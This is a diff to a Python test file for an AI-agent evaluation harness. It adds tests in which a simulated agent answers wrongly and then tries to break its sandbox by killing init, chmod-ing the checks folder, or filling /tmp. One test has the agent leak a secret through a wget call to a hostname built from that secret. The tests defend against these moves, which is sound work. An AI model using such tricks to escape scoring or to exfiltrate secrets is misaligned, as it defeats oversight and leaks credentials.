@@ -23,7 +23,7 @@ from assay.sandbox.hygiene import clean, leftovers
 from assay.store import Store
 from flows.run import run_eval
 from tests.conftest import only_run_id, run_assay, write_jsonl, write_spec
-from tests.sandbox_images import busybox_image, busybox_with, engine
+from tests.sandbox_images import busybox_image, busybox_with, engine, python_image
 
 SECRET = "sk-sandbox-secret-7f3a9c"
 
@@ -75,10 +75,12 @@ def _run(spec: Path, store: Path) -> tuple[dict[str, Any], pl.DataFrame, pl.Data
 
 
 def _stored(store: Path) -> bytes:
-    """Everything the store holds as a reader sees it: every file's bytes, and every Parquet
-    file's rows decoded (zstd pages would hide a value from a byte search)."""
+    """Everything the store holds as a reader sees it: every file's and folder's name, every
+    file's bytes, and every Parquet file's rows decoded (zstd pages would hide a value from a
+    byte search)."""
     out = []
     for path in sorted(store.rglob("*")):
+        out.append(path.relative_to(store).as_posix().encode())
         if path.suffix == ".parquet":
             out.append(json.dumps(pl.read_parquet(path).to_dicts(), default=str).encode())
         elif path.is_file():
@@ -640,3 +642,146 @@ def test_a_fixture_changed_under_a_run_makes_its_resume_refuse(tmp_path: Path, i
     changed = run_assay("resume", run_id, "--store", str(tmp_path / "store"))
     assert changed.returncode == 2
     assert "its identity changed since it started: the fixture files' content" in changed.stderr
+
+
+_TRICKS = {
+    # The container's init signalled (it used to run as the attempt's user and exit on TERM).
+    "kill-init": "kill -TERM 1 2>&1; kill -KILL 1 2>&1; kill -INT 1 2>&1",
+    # /assay made unwritable (root owned it): the checks could not be copied in.
+    "chmod-assay": "chmod 0555 /assay 2>&1",
+    # The agent's own files made unreadable: the export and the checks' working folder failed.
+    "chmod-workspace": "chmod 000 answer.txt /workspace",
+}
+
+
+@pytest.mark.parametrize("user", [None, "root"])
+@pytest.mark.parametrize("trick", sorted(_TRICKS))
+def test_breaking_the_sandbox_does_not_escape_a_wrong_answers_zero(
+    tmp_path: Path, image: str, trick: str, user: str | None
+) -> None:
+    """An agent (as non-root and as root) answers wrong, then tries to break its sandbox so that
+    the attempt or its scorer fails (and drops out of the score means): it still scores 0."""
+    command = f"echo 41 > answer.txt; {_TRICKS[trick]}; echo 41"
+    spec = _eval(
+        tmp_path, image, command,
+        scorers=[{"kind": "code_exec", "checks": ["sh /assay/checks/test.sh", "test -e answer.txt"]}],
+        **({"user": user} if user else {}),
+    )  # fmt: skip
+    summary, items, scores = _run(spec, tmp_path / "store")
+    (row,) = items.to_dicts()
+    assert row["outcome"] == "completed", row["error"]
+    (score,) = scores.to_dicts()
+    assert (score["outcome"], score["score"]) == ("scored", 0.5), score["error"]
+    transcript = _artifact(tmp_path / "store", summary["run_id"], "a/0/transcript.txt").read_text()
+    if trick != "chmod-workspace":
+        assert "Operation not permitted" in transcript
+    # Out of the agent's reach: the checks ran in the attempt's own container.
+    assert "verifier" not in json.loads(row["sandbox"])
+    assert "verifier" not in json.loads(score["metadata"])
+    assert leftovers(summary["run_id"]) == []
+
+
+@pytest.mark.parametrize(("user", "answer"), [(None, "41"), ("root", "41"), (None, "42")])
+def test_checks_run_in_a_fresh_verifier_when_the_agent_damaged_its_container(
+    tmp_path: Path, image: str, user: str | None, answer: str
+) -> None:
+    """The agent fills /tmp (a tmpfs: it counts against the memory limit and outlives its writer,
+    which the kernel's OOM killer picks first) until no further command can start in its
+    container. The workspace is still exported, and the checks run in a fresh container over it:
+    a wrong answer scores 0, a right one 1."""
+    fill = "(echo 1000 > /proc/self/oom_score_adj; exec dd if=/dev/zero of=/tmp/fill bs=64k) 2>/dev/null"
+    command = f"echo {answer} > answer.txt; {fill}; echo {answer}"
+    spec = _eval(
+        tmp_path, image, command, limits={"memory": "64m"},
+        scorers=[{"kind": "code_exec", "checks": ["sh /assay/checks/test.sh", "test ! -e /tmp/fill"]}],
+        **({"user": user} if user else {}),
+    )  # fmt: skip
+    summary, items, scores = _run(spec, tmp_path / "store")
+    (row,) = items.to_dicts()
+    assert row["outcome"] == "completed", row["error"]
+    (score,) = scores.to_dicts()
+    assert score["outcome"] == "scored", score["error"]
+    assert score["score"] == (1.0 if answer == "42" else 0.5)
+    verifier = json.loads(row["sandbox"])["verifier"]
+    assert verifier["container"] == "fresh"
+    assert verifier["reason"].startswith("exporting the workspace failed:")
+    assert json.loads(score["metadata"])["verifier"] == verifier
+    assert leftovers(summary["run_id"]) == []
+
+
+def test_an_attempt_user_with_assays_control_uid_is_refused(tmp_path: Path, image: str) -> None:
+    from assay.dataset import Item
+    from assay.errors import SpecError
+    from assay.sandbox.container import prepare_container
+    from assay.spec import ContainerTarget
+
+    target = ContainerTarget(kind="container", image=image, command=["true"], user="65533")
+    item = Item(item_id="a", item_index=0, input="x", expected=None)
+    with pytest.raises(
+        SpecError, match=r"target\.user: user '65533' .* uid or gid 65533, which is Assay's own"
+    ):
+        prepare_container(target, [item], tmp_path, None)
+
+
+NAME_SECRET = "tok-names-5e1d2b"
+
+
+def test_secrets_in_file_and_folder_names_are_redacted_and_names_stay_unique(
+    tmp_path: Path, image: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Files and folders the agent names after a secret are stored under the redacted name; one
+    that would take a name already there (here: a file the agent named `…[REDACTED]…` itself)
+    gets `~2`, and the attempt lists what it renamed."""
+    monkeypatch.setenv("NAME_TOKEN", NAME_SECRET)
+    command = (
+        'echo one > "notes-$NAME_TOKEN.txt"; echo two > "notes-[REDACTED].txt"; '
+        'mkdir -p "dir-$NAME_TOKEN/sub"; echo three > "dir-$NAME_TOKEN/sub/inner.txt"; '
+        "echo 42 > answer.txt; ls; echo 42"
+    )
+    spec = _eval(
+        tmp_path, image, command, secrets=["NAME_TOKEN"],
+        scorers=[{"kind": "code_exec", "checks": ["ls"]}],
+    )  # fmt: skip
+    summary, items, scores = _run(spec, tmp_path / "store")
+    (row,) = items.to_dicts()
+    assert row["outcome"] == "completed", row["error"]
+    # The checks ran over the real names in the live container; what they printed is redacted.
+    (score,) = scores.to_dicts()
+    assert json.loads(score["metadata"])["checks"][0]["stdout"].count("notes-[REDACTED].txt\n") == 2
+    workspace = _artifact(tmp_path / "store", summary["run_id"], "a/0/workspace")
+    stored = {p.relative_to(workspace).as_posix(): p for p in workspace.rglob("*")}
+    assert sorted(stored) == [
+        "answer.txt", "dir-[REDACTED]", "dir-[REDACTED]/sub", "dir-[REDACTED]/sub/inner.txt",
+        "notes-[REDACTED].txt", "notes-[REDACTED]~2.txt", "readme.txt", "src", "src/code.txt",
+    ]  # fmt: skip
+    assert stored["notes-[REDACTED].txt"].read_text() == "two\n"  # the agent's own name is kept
+    assert stored["notes-[REDACTED]~2.txt"].read_text() == "one\n"
+    assert json.loads(row["sandbox"])["redacted_names"] == [
+        "dir-[REDACTED]/sub/inner.txt",
+        "notes-[REDACTED]~2.txt",
+    ]
+    diff = _artifact(tmp_path / "store", summary["run_id"], "a/0/diff.patch").read_text()
+    assert "+++ b/notes-[REDACTED]~2.txt" in diff and "+++ b/dir-[REDACTED]/sub/inner.txt" in diff
+    everything = _stored(tmp_path / "store")
+    assert NAME_SECRET.encode() not in everything and b"notes-[REDACTED]~2.txt" in everything
+
+
+def test_a_secret_in_a_denied_hostname_is_not_stored(
+    tmp_path: Path, image: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`<secret>.example` is a way out through DNS or a proxy: the proxy refuses it, and the
+    attempt's record of what was refused keeps the hostname redacted."""
+    monkeypatch.setenv("NAME_TOKEN", NAME_SECRET)
+    command = 'wget -q -O- "http://$NAME_TOKEN.denied.test/" 2>&1; echo 42'
+    spec = _eval(
+        tmp_path, image, command, secrets=["NAME_TOKEN"], egress=["allowed.test"],
+        egress_proxy_image=python_image(engine()),
+    )  # fmt: skip
+    summary, items, _ = _run(spec, tmp_path / "store")
+    (row,) = items.to_dicts()
+    assert row["outcome"] == "completed", row["error"]
+    denied = json.loads(
+        _artifact(tmp_path / "store", summary["run_id"], "a/0/egress-denials.json").read_text()
+    )
+    assert [entry["host"] for entry in denied] == ["[REDACTED].denied.test"]
+    assert NAME_SECRET.encode() not in _stored(tmp_path / "store")
